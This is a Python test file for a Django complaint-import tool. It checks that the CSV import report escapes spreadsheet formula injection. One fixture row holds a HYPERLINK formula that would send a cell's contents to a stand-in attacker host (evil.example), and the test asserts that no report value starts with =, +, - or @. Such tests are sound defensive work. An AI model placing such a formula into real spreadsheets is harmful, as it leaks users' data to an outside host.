from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

from django.utils import translation

from fankui.imports import files

from .conftest import run_file

BODY = "小区门口的路灯坏了一个月，晚上很黑，请尽快修理。"


def test_the_report_has_a_line_per_row_with_its_case_or_reason_and_no_live_formula(
    db: None, csv_file: Callable[..., Path]
) -> None:
    path = csv_file(
        [
            ['=HYPERLINK("http://evil.example/?"&A1,"x")', "u", "路灯", "2019/4/25 9:32", BODY, "", ""],
            ["@SUM(1+1)", "u", "路灯", "不是日期", BODY, "", ""],
        ]
    )
    with translation.override("en"):
        job = run_file(path)
    with files.local(job.report).open(encoding="utf-8", newline="") as handle:
        lines = list(csv.DictReader(handle))
    assert [line["row"] for line in lines] == ["2", "3"]
    assert lines[0]["outcome"] == "Imported" and lines[0]["case"].startswith("2019-")
    assert lines[0]["source_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert lines[1]["outcome"] == "Not imported"
    assert lines[1]["reason"] == "The time received “不是日期” is not a date."
    for line in lines:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in line.values())
